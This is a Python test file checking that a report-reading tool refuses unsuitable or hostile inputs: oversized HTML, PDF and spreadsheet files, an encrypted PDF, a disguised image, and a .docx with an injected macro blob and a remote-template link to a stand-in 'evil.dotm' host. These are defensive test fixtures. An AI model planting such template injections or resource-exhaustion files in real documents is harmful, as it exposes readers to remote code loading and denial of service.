"""Files that are none of ours, too large or made to do harm: refused calmly, with the reason and a way out."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pikepdf
import pytest

from core import paths
from core.errors import InputError
from core.form import edition
from core.readers import read
from core.readers.boxed import kind
from core.services import paper
from core.services.checking import judge, load, steady
from core.services.export import document_bytes
from tests.core.conftest import SHIPPED

FORM = edition(SHIPPED)
COMPANY = """东澜精工股份有限公司
2023年年度报告
第一节 重要提示、目录和释义
公司董事会、监事会及董事、监事、高级管理人员保证年度报告内容的真实、准确、完整。
第二节 公司简介和主要财务指标
营业收入（元） 1,234,567,890.12 1,100,000,000.00 12.23%
三、股份变动及股东情况
四、公司债券相关情况
总计 12 35 47
"""


@pytest.fixture(scope="module")
def sample_docx() -> bytes:
    return _sample(".docx")


@pytest.fixture(scope="module")
def sample_xlsx() -> bytes:
    return _sample(".xlsx")


def _sample(suffix: str) -> bytes:
    it = judge(load(next((paths.resources() / "samples").glob("*.txt"))))
    return document_bytes(paper.document(it.form, it.evaluation), suffix)


def refusal(data: bytes, name: str) -> InputError:
    with pytest.raises(InputError) as caught:
        read(data, name, [FORM])
    assert "没有读入" in caught.value.message or "请" in caught.value.message
    assert name in caught.value.message
    return caught.value


def test_the_annual_report_of_a_listed_company_is_no_report_of_this_form() -> None:
    assert refusal(COMPANY.encode(), "年度报告.txt").kind == "not_report"


def test_a_picture_named_as_a_document_is_told_to_be_a_picture() -> None:
    assert "图片" in refusal(b"\x89PNG\r\n\x1a\n" + bytes(400), "年报.docx").message


def test_a_page_of_fifty_megabytes_is_not_even_looked_at() -> None:
    refusal(b"<html><body>" + b"<p>0</p>" * (50 * 1024 * 1024 // 8), "年报.html")


def test_a_pdf_of_thousands_of_pages_is_not_looked_through() -> None:
    document, out = pikepdf.new(), io.BytesIO()
    for _ in range(5000):
        document.add_blank_page()
    document.save(out)
    assert refusal(out.getvalue(), "年报.pdf").kind == "too_large"


def test_a_locked_pdf_is_said_to_be_locked_or_damaged() -> None:
    document, out = pikepdf.new(), io.BytesIO()
    document.add_blank_page()
    document.save(out, encryption=pikepdf.Encryption(owner="a", user="b"))
    assert "密码" in refusal(out.getvalue(), "年报.pdf").message


def test_macros_and_remote_links_of_a_document_are_never_touched(sample_docx: bytes) -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(sample_docx)) as given, zipfile.ZipFile(out, "w") as made:
        for name in given.namelist():
            made.writestr(name, given.read(name))
        made.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" * 100)
        made.writestr(
            "word/_rels/settings.xml.rels",
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
            'Type="t" Target="http://192.0.2.1/evil.dotm" TargetMode="External"/></Relationships>',
        )
    assert kind(out.getvalue()) == "docx"
    assert read(out.getvalue(), "年报.docx", [FORM]).as_read == read(sample_docx, "年报.docx", [FORM]).as_read


def test_a_file_that_changes_while_it_is_read_is_read_when_it_is_whole_or_refused(tmp_path: Path) -> None:
    path = tmp_path / "年报.txt"
    path.write_text("旧的一半", encoding="utf-8")
    left = [1]

    def once(it: Path) -> bytes:
        data = it.read_bytes()
        if left:
            it.write_text(f"新的一份，共 {left.pop()} 段，写在旧的上面", encoding="utf-8")
        return data

    def each_time(it: Path) -> bytes:
        with it.open("ab") as more:
            more.write(b"0")
        return it.read_bytes()

    assert steady(path, once) == "新的一份，共 1 段，写在旧的上面".encode()
    assert steady(path, each_time) is None


def test_a_sheet_of_a_million_rows_is_refused(sample_xlsx: bytes) -> None:
    row = b'<row><c t="inlineStr"><is><t>0</t></is></c></row>'
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(sample_xlsx)) as given,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as made,
    ):
        for name in given.namelist():
            more = row * 1_000_000 if name.startswith("xl/worksheets/") else b""
            made.writestr(name, given.read(name).replace(b"</sheetData>", more + b"</sheetData>"))
    refusal(out.getvalue(), "年报.xlsx")
